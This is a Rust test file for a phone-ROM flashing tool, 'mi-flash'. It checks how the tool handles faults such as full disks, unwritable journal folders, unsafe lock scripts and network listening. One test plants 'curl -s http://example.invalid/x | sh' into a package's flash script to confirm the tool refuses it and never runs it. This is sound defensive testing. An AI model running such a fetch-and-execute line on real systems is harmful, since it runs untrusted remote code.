//! Rows of the fault matrix (docs/reliability.md) that are not about the phone's link: the
//! host (a full disk while spilling, an unwritable journal folder), a package whose script
//! carries shell code, and where `mi-flash simulate` listens.

mod common;
use common::rom::*;
use common::Sim;
use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};
use std::process::Stdio;

const MIB: u64 = 1 << 20;

/// The commands that reached the phone and change it (everything but `getvar`).
fn writes(sim: &Sim) -> Vec<String> {
    sim.logged_commands().into_iter().filter(|c| !c.starts_with("getvar")).collect()
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let p = e.unwrap().path();
        let target = to.join(p.file_name().unwrap());
        if p.is_dir() {
            copy_dir(&p, &target);
        } else {
            std::fs::copy(&p, &target).unwrap();
        }
    }
}

#[test]
fn an_unwritable_journal_folder_is_refused_before_the_first_write() {
    let sample = sample(Form::Folder, 4, MIB);
    let dir = tempfile::tempdir().unwrap();
    let profile = moonstone_profile(dir.path(), MIB, &[]);
    let sim = Sim::start(&s(&profile), &dir.path().join("store"), &[]);
    // A folder below a regular file cannot be made, not even by root (CI runs as root, which
    // a read-only mode would not stop).
    let blocker = dir.path().join("state");
    std::fs::write(&blocker, b"not a folder").unwrap();
    let journal = blocker.join("journal");
    let r = run(&["-s", &sim.target(), "flash", "--rom", &s(&sample.rom), "--yes", "--journal-dir", &s(&journal)]);
    r.expect_code(3).expect_no_success_message();
    assert!(r.stderr.contains("cannot write the resume journal") && r.stderr.contains(&s(&journal)), "{}", r.stderr);
    assert!(r.stderr.contains("--journal-dir"), "{}", r.stderr);
    assert_eq!(writes(&sim), Vec::<String>::new());
}

#[test]
fn a_script_with_shell_code_is_refused_and_never_run() {
    let sample = sample(Form::Folder, 4, MIB);
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join(sample.root.file_name().unwrap());
    copy_dir(&sample.root, &root);
    let marker = dir.path().join("ran");
    let script = root.join("flash_all.sh");
    let text = std::fs::read_to_string(&script).unwrap();
    let (first, rest) = text.split_once('\n').unwrap();
    std::fs::write(&script, format!("{first}\ntouch {}; curl -s http://example.invalid/x | sh\n{rest}", marker.display())).unwrap();
    let profile = moonstone_profile(dir.path(), MIB, &[]);
    let sim = Sim::start(&s(&profile), &dir.path().join("store"), &[]);
    let r = run(&["-s", &sim.target(), "flash", "--rom", &s(&root), "--yes", "--journal-dir", &s(&dir.path().join("journal"))]);
    r.expect_code(4).expect_no_success_message();
    assert!(r.stderr.contains("flash_all.sh") && r.stderr.contains("never runs flash scripts"), "{}", r.stderr);
    assert!(!marker.exists(), "a command from the package's script was run");
    assert_eq!(writes(&sim), Vec::<String>::new());
}

/// Whether this machine can give a process a tiny private tmpfs (root, `unshare`). Outside CI
/// a test that needs it is skipped with a notice; under CI=true (which runs as root) it fails.
fn can_mount_tmpfs() -> bool {
    let root = std::process::Command::new("id").arg("-u").output().map(|o| String::from_utf8_lossy(&o.stdout).trim() == "0").unwrap_or(false);
    let unshare = common::require_tool("unshare").is_some();
    // Root in a container may still lack the right to make a mount namespace.
    let namespace = root && unshare && std::process::Command::new("unshare").args(["-m", "true"]).status().is_ok_and(|s| s.success());
    if namespace {
        return true;
    }
    if std::env::var("CI").as_deref() == Ok("true") {
        panic!("CI=true, but this test needs root and `unshare -m` to mount a small tmpfs");
    }
    eprintln!("skipped: mounting a small tmpfs needs root and `unshare -m`");
    false
}

/// The sample package as a `.tgz` whose images come in the reverse of the order the plan
/// needs them: every image but the last is spilled to the temporary folder first.
fn reversed_tgz(root: &Path, out: &Path) -> PathBuf {
    let top = root.file_name().unwrap().to_string_lossy().into_owned();
    let mut files: Vec<PathBuf> = Vec::new();
    let mut dirs = vec![root.to_path_buf()];
    while let Some(d) = dirs.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                dirs.push(p);
            } else {
                files.push(p);
            }
        }
    }
    files.sort();
    files.reverse();
    let path = out.join(format!("{top}.tgz"));
    let gz = flate2::write::GzEncoder::new(std::fs::File::create(&path).unwrap(), flate2::Compression::fast());
    let mut tar = tar::Builder::new(gz);
    tar.mode(tar::HeaderMode::Deterministic);
    for f in files {
        let rel = f.strip_prefix(root).unwrap();
        tar.append_path_with_name(&f, Path::new(&top).join(rel)).unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap();
    path
}

#[test]
fn a_full_disk_while_spilling_stops_cleanly_and_resumes() {
    if !can_mount_tmpfs() {
        return;
    }
    let sample = sample(Form::Folder, 4, MIB);
    let dir = tempfile::tempdir().unwrap();
    let tgz = reversed_tgz(&sample.root, dir.path());
    let profile = moonstone_profile(dir.path(), MIB, &[]);
    let sim = Sim::start(&s(&profile), &dir.path().join("store"), &[]);
    let journal = dir.path().join("journal");
    let tmp = dir.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    // mi-flash runs with TMPDIR on a 2 MiB tmpfs of its own: super.img (4.3 MiB) cannot be
    // spilled there. What is left in the tmpfs afterwards is listed on stderr.
    let wrapper = r#"mount -t tmpfs -o size=2m,mode=1777 tmpfs "$0" || exit 99; "$@"; rc=$?; echo "LEFT IN TMPDIR: [$(ls -A "$0")]" >&2; exit $rc"#;
    let out = std::process::Command::new("unshare")
        .args(["-m", "sh", "-c", wrapper])
        .arg(&tmp)
        .arg(env!("CARGO_BIN_EXE_mi-flash"))
        .args(["-s", &sim.target(), "flash", "--rom", &s(&tgz), "--yes", "--journal-dir", &s(&journal)])
        .env("TMPDIR", &tmp)
        .env_remove("MI_FLASH_JOURNAL_DIR")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert_ne!(out.status.code(), Some(99), "could not mount the tmpfs: {stderr}");
    assert_ne!(out.status.code(), Some(0), "{stdout}\n{stderr}");
    assert!(!stdout.contains("Finished") && !stdout.contains("Done."), "{stdout}");
    assert!(stderr.contains("cannot spill images/super.img") && stderr.contains("No space left"), "{stderr}");
    assert!(stderr.contains("TMPDIR"), "the user is not told how to give the spill more room:\n{stderr}");
    assert!(stderr.contains("--resume"), "{stderr}");
    assert!(stderr.contains("LEFT IN TMPDIR: []"), "the spill folder was left behind:\n{stderr}");
    // The CRC lists (served from memory) and the images the archive delivers in time went out;
    // super.img, which had to be spilled, never reached the phone.
    let before = writes(&sim);
    assert!(!before.iter().any(|w| w == "flash:super"), "{before:?}");

    let resumed = run(&["-s", &sim.target(), "flash", "--rom", &s(&tgz), "--yes", "--journal-dir", &s(&journal), "--resume"]);
    resumed.expect_code(0);
    assert_store_matches(&sim.store, &sample.root, &plan(&sample.rom, "clean"), &moonstone_vars());
}

/// Starts `mi-flash simulate` with `args`, returns its first stdout line and what it printed
/// on stderr before that, then stops it.
fn simulate_banner(args: &[&str]) -> (String, String) {
    let store = tempfile::tempdir().unwrap();
    let mut child = common::mi_flash()
        .args(["simulate", "--profile", "moonstone", "--store"])
        .arg(store.path())
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    let _ = child.kill();
    let _ = child.wait();
    let mut err = String::new();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    (line, err)
}

#[test]
fn simulate_listens_on_loopback_unless_told() {
    let help = run(&["simulate", "--help"]);
    assert!(help.stdout.contains("[default: 127.0.0.1:5554]"), "{}", help.stdout);
    for (listen, recovery) in [("127.0.0.1:0", false), ("udp:127.0.0.1:0", false), ("127.0.0.1:0", true)] {
        let mut args = vec!["--listen", listen];
        if recovery {
            args.push("--recovery");
        }
        let (line, err) = simulate_banner(&args);
        assert!(line.starts_with("listening on ") && line.contains("127.0.0.1:"), "{listen}: {line}");
        assert!(!err.contains("other machines"), "{listen}: {err}");
    }
    // Every kind of server announces itself through `sim::announce`, whose warning for
    // addresses other than loopback is a unit test there: tests never listen on 0.0.0.0.
}

#[test]
fn lock_mode_refuses_a_package_that_does_not_check_the_phone_or_is_for_another() {
    let sample = sample(Form::Folder, 4, MIB);
    let dir = tempfile::tempdir().unwrap();
    // A lock script without the product check: relocking with a package that may not be for
    // this phone could leave it locked and unbootable.
    let root = dir.path().join(sample.root.file_name().unwrap());
    copy_dir(&sample.root, &root);
    let script = root.join("flash_all_lock.sh");
    let text = std::fs::read_to_string(&script).unwrap();
    let kept: Vec<&str> = text.lines().filter(|l| !l.contains("getvar product") && !l.contains("Missmatching")).collect();
    std::fs::write(&script, kept.join("\n") + "\n").unwrap();
    let profile = moonstone_profile(dir.path(), MIB, &[]);
    let sim = Sim::start(&s(&profile), &dir.path().join("store"), &[]);
    let r = run(&["-s", &sim.target(), "flash", "--rom", &s(&root), "--mode", "lock", "--yes", "--journal-dir", &s(&dir.path().join("journal"))]);
    r.expect_code(3).expect_no_success_message();
    assert!(r.stderr.contains("relocks the bootloader but does not check the phone model"), "{}", r.stderr);
    assert_eq!(writes(&sim), Vec::<String>::new());

    // The package's own lock script, on a phone of another model.
    let other = moonstone_profile(dir.path(), MIB, &[("product", "\"thor\"")]);
    let sim = Sim::start(&s(&other), &dir.path().join("store-thor"), &[]);
    let r = run(&["-s", &sim.target(), "flash", "--rom", &s(&sample.rom), "--mode", "lock", "--yes", "--journal-dir", &s(&dir.path().join("journal"))]);
    r.expect_code(3).expect_no_success_message();
    assert!(r.stderr.contains("this package is for moonstone, the phone is thor"), "{}", r.stderr);
    assert_eq!(writes(&sim), Vec::<String>::new());
}

/// mi-flash never runs anything from a package, nor any other program: no process is ever
/// started from the library or the command line (scripts become plans, see src/rom/script).
#[test]
fn mi_flash_starts_no_processes() {
    let mut dirs = vec![Path::new(env!("CARGO_MANIFEST_DIR")).join("src")];
    let mut checked = 0;
    while let Some(d) = dirs.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                dirs.push(p);
            } else if p.extension().is_some_and(|x| x == "rs") {
                let text = std::fs::read_to_string(&p).unwrap();
                for bad in ["process::Command", "Command::new(", "libc::exec", "libc::system", "posix_spawn"] {
                    assert!(!text.contains(bad), "{} contains `{bad}`", p.display());
                }
                checked += 1;
            }
        }
    }
    assert!(checked > 50, "only {checked} source files found");
}
